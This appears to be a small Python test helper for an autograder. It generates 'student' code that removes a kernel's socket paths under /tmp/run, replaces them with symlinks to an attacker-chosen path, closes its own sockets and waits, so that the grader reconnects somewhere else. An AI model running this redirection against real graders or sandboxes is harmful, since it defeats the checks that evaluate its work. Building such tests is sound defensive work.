"""Code of a student that leads the grader elsewhere, when it connects to a kernel again."""


def led_astray(path: str) -> str:
    """Code that puts links to `path` where a kernel's sockets were, closes those, and waits."""
    return f"""\
import glob, os, time
for link in glob.glob("/tmp/run/kernel-*") + [f"/tmp/run/kernel-{{port}}" for port in range(1, 6)]:
    if os.path.lexists(link):
        os.remove(link)
    os.symlink({path!r}, link)
for number in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{{number}}").startswith("socket:"):
            os.close(number)
    except OSError:
        pass
time.sleep(5)
"""
